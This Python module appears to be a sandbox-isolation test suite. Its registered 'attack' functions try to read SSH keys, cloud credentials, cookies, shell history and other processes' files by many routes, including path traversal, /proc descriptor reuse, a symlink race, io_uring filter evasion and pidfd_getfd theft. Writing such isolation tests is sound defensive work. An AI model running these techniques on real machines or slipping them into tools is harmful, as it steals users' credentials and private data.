"""Files that are none of a tool's business."""

from __future__ import annotations

import ctypes
import hashlib
import mmap
import os
import select
import stat
import tempfile
import threading
import time

from ..system_calls import call, would_work
from ..table import STOLEN, WORD, NothingFound, attack


@attack(STOLEN)
def ssh_key(scene):
    """Reads ~/.ssh/id_ed25519."""
    return _read(scene["home"], ".ssh/id_ed25519")


@attack(STOLEN)
def ssh_key_by_dots(scene):
    """Reads ~/.ssh/id_ed25519 by a path with `..` from its temporary folder."""
    up = "/".join([".."] * 20)
    return _read(os.path.join(tempfile.gettempdir(), up, scene["home"].lstrip("/")), ".ssh/id_ed25519")


@attack(STOLEN)
def ssh_key_by_a_folder(scene):
    """Opens the folder ~/.ssh with O_PATH, and the key from there."""
    folder = os.open(os.path.join(scene["home"], ".ssh"), os.O_PATH)
    file = os.open("id_ed25519", os.O_RDONLY, dir_fd=folder)
    return os.read(file, 4096).decode()


@attack(STOLEN)
def ssh_key_by_reopening(scene):
    """Opens ~/.ssh/id_ed25519 with O_PATH, and reopens that descriptor through /proc/self/fd."""
    file = os.open(os.path.join(scene["home"], ".ssh/id_ed25519"), os.O_PATH)
    return _read("/proc/self/fd", str(file))


@attack(STOLEN)
def ssh_key_by_working_folder(scene):
    """Makes ~/.ssh its working folder, and reads the key by its bare name."""
    os.chdir(os.path.join(scene["home"], ".ssh"))
    return _read("", "id_ed25519")


@attack(STOLEN)
def ssh_key_by_mapping(scene):
    """Maps ~/.ssh/id_ed25519 into its memory."""
    file = os.open(os.path.join(scene["home"], ".ssh/id_ed25519"), os.O_RDONLY)
    return mmap.mmap(file, 0, prot=mmap.PROT_READ)[:].decode()


@attack(STOLEN)
def ssh_key_by_parents_working_folder(scene):
    """Reads a file of the folder that the host's process works in."""
    return _read(f"/proc/{os.getppid()}/cwd", "draft.txt")


@attack(STOLEN)
def ssh_key_by_neighbours_descriptor(scene):
    """Reads a file that another process of the user has open."""
    folder = f"/proc/{scene['victim']}/fd"
    return _first(os.path.join(folder, name) for name in os.listdir(folder) if int(name) > 2)


@attack(STOLEN)
def ssh_key_by_race(scene):
    """Exchanges a file of its own with a link to ~/.ssh/id_ed25519 while another thread opens it again and again."""
    folder = tempfile.mkdtemp()
    path, other, key = (os.path.join(folder, name) for name in ("file", "other", "link"))
    is_over = threading.Event()

    def exchange():
        while not is_over.is_set():
            with open(other, "w") as own:
                own.write("mine")
            os.replace(other, path)
            os.symlink(os.path.join(scene["home"], ".ssh/id_ed25519"), key)
            os.replace(key, path)

    with open(path, "w"):
        thread = threading.Thread(target=exchange)
    thread.start()
    last = NothingFound("the race was lost")
    try:
        for _ in range(2000):
            try:
                content = _read("", path)
            except OSError as error:
                last = error
                continue
            if content not in ("", "mine"):
                return content
    finally:
        is_over.set()
        thread.join()
    raise last


@attack(STOLEN)
def cloud_credentials(scene):
    """Reads ~/.aws/credentials."""
    return _read(scene["home"], ".aws/credentials")


@attack(STOLEN)
def shell_history(scene):
    """Reads ~/.bash_history."""
    return _read(scene["home"], ".bash_history")


@attack(STOLEN)
def browser_cookies(scene):
    """Reads a browser's cookies."""
    return _read(scene["home"], ".mozilla/firefox/profile/cookies.sqlite")


@attack(STOLEN)
def notes_that_it_did_not_declare(scene):
    """Reads a document of the user that is not hidden."""
    return _read(scene["home"], "notes/diary.md")


@attack(STOLEN)
def working_folder(scene):
    """Reads a file of the folder that the client works in."""
    return _read(scene["work"], "draft.txt")


@attack(STOLEN)
def file_of_somebody_else(scene):
    """Reads a file outside of the user's home."""
    return _read(scene["outside"], "secret.txt")


@attack(STOLEN)
def state_of_another_tool(scene):
    """Reads what another tool has kept."""
    return _read(scene["state"], "tools/vault/token.txt")


@attack(STOLEN)
def cache_of_another_tool(scene):
    """Reads all results of other tools in the cache."""
    return _first(_below(scene["state"], "cache"))


@attack(STOLEN)
def artifacts_of_other_calls(scene):
    """Reads all artifacts that other calls have left."""
    return _first(_below(scene["state"], "artifacts"))


@attack(STOLEN)
def journal_of_the_host(scene):
    """Reads which calls there were, and with which arguments."""
    return _first(_below(scene["state"], "journal"))


@attack(STOLEN)
def temporary_files_of_others(scene):
    """Reads the temporary files of another call."""
    return _read(scene["tmp"], "other-call/secret.txt")


@attack(STOLEN)
def shared_memory_of_others(scene):
    """Reads a file in /dev/shm that is not its own."""
    return _read("/dev/shm", scene["shm_name"])


@attack(STOLEN)
def names_in_the_home(scene):
    """Lists the user's home."""
    return " ".join(os.listdir(scene["home"]))


@attack(STOLEN)
def names_in_the_state_folder(scene):
    """Lists the state folder, where every tool has a folder."""
    return " ".join(os.listdir(scene["state"]))


@attack(WORD)
def watch_by_inotify(scene):
    """Learns when ~/.ssh/id_ed25519 is used."""
    queue = call("inotify_init1", os.O_NONBLOCK)
    return f"watch {call('inotify_add_watch', queue, os.path.join(scene['home'], '.ssh/id_ed25519').encode(), 0xFFF)}"


@attack(WORD, root=True)
def watch_by_fanotify(scene):
    """Learns of every file that anybody opens, and gets a descriptor of it."""
    return would_work("fanotify_init", 0, os.O_RDONLY)


@attack(WORD)
def watch_by_dnotify(scene):
    """Learns of every change below ~/.ssh by a signal."""
    import fcntl

    folder = os.open(os.path.join(scene["home"], ".ssh"), os.O_RDONLY)
    fcntl.fcntl(folder, fcntl.F_NOTIFY, fcntl.DN_MODIFY)
    return "the folder is watched"


@attack(STOLEN)
def file_by_io_uring(scene):
    """Reads ~/.ssh/id_ed25519 by a queue in memory, which no filter of system calls sees."""
    from ..io_uring import read_file

    return read_file(os.path.join(scene["home"], ".ssh/id_ed25519")).decode()


@attack(STOLEN)
def descriptor_of_a_neighbour(scene):
    """Takes over a descriptor that another process of the user has open."""
    process = call("pidfd_open", scene["victim"], 0)
    for number in range(3, 10):
        try:
            file = call("pidfd_getfd", process, number, 0)
        except OSError as error:
            if error.errno == 9:  # EBADF: none with this number
                continue
            raise
        if stat.S_ISREG(os.fstat(file).st_mode):
            return os.pread(file, 4096, 0).decode()
    raise NothingFound("no file is open there")


@attack(STOLEN)
def inherited_descriptors(scene):
    """Reads from every descriptor that it was born with."""
    loot = b""
    for name in os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and select.select([int(name)], [], [], 0)[0]:
                loot += os.pread(int(name), 4096, 0)
        except OSError:
            continue
    if not loot:
        raise NothingFound("no descriptor but the host's own is open")
    return loot.decode(errors="replace")


@attack(STOLEN, root=True)
def disk_by_its_device(scene):
    """Reads the disk past the file system."""
    device = os.stat(scene["home"]).st_dev
    path = os.path.join(tempfile.gettempdir(), f"device-{os.getpid()}")
    try:
        os.mknod(path, stat.S_IFBLK | 0o600, device)
        file = os.open(path, os.O_RDONLY)
    finally:
        if os.path.lexists(path):
            os.unlink(path)
    return "disk:" + hashlib.sha256(os.pread(file, 512, 1024)).hexdigest()


@attack(WORD, root=True)
def log_of_the_kernel(scene):
    """Reads the kernel's log, where other programs' command lines and addresses stand."""
    buffer = ctypes.create_string_buffer(4096)
    return f"{call('syslog', 3, buffer, 4096)} bytes"


@attack(STOLEN)
def secret_in_a_links_target(scene):
    """Reads where a symbolic link in the user's home leads, which opens no file."""
    return os.readlink(os.path.join(scene["home"], ".link-to-secret"))


@attack(STOLEN)
def secret_in_an_extended_attribute(scene):
    """Reads an extended attribute of a file that it may not read."""
    return os.getxattr(os.path.join(scene["home"], "notes/diary.md"), "user.canary").decode()


@attack(WORD)
def size_of_a_secret(scene):
    """Asks for the size and times of ~/.ssh/id_ed25519, which opens no file."""
    status = os.stat(os.path.join(scene["home"], ".ssh/id_ed25519"))
    return f"{status.st_size} bytes of {time.ctime(status.st_mtime)}"


@attack(STOLEN)
def command_lines_of_others(scene):
    """Reads the command line of another process of the user, where programs get passwords."""
    return _read(f"/proc/{scene['victim']}", "cmdline")


@attack(WORD)
def connections_of_the_machine(scene):
    """Reads which connections all programs of this machine have."""
    found = _read("/proc/self/net", "tcp")
    if f":{scene['port']:04X} " not in found:
        raise NothingFound("no connection is listed")
    return f"{len(found.splitlines())} lines"


@attack(WORD)
def processes_of_the_machine(scene):
    """Lists all processes of this machine."""
    found = [name for name in os.listdir("/proc") if name.isdigit() and int(name) == scene["victim"]]
    return " ".join(found)


@attack(WORD)
def identity_of_the_machine(scene):
    """Reads what tells this machine from all others: the addresses of its network devices."""
    folder = "/sys/class/net"
    addresses = [_read(os.path.join(folder, name), "address").strip() for name in os.listdir(folder)]
    return " ".join(one for one in addresses if one.strip("0:"))


def _read(folder, name):
    with open(os.path.join(folder, name), encoding="utf-8", errors="replace") as file:
        return file.read(1 << 20)  # a busy machine lists hundreds of connections


def _below(*parts):
    folder = os.path.join(*parts)
    os.listdir(folder)  # os.walk would pass over what it may not list
    return (os.path.join(place, name) for place, _, names in os.walk(folder) for name in names)


def _first(paths):
    loot, last = "", None
    for path in paths:
        try:
            loot += _read("", path)
        except OSError as error:
            last = error
    if last and not loot:
        raise last
    return loot
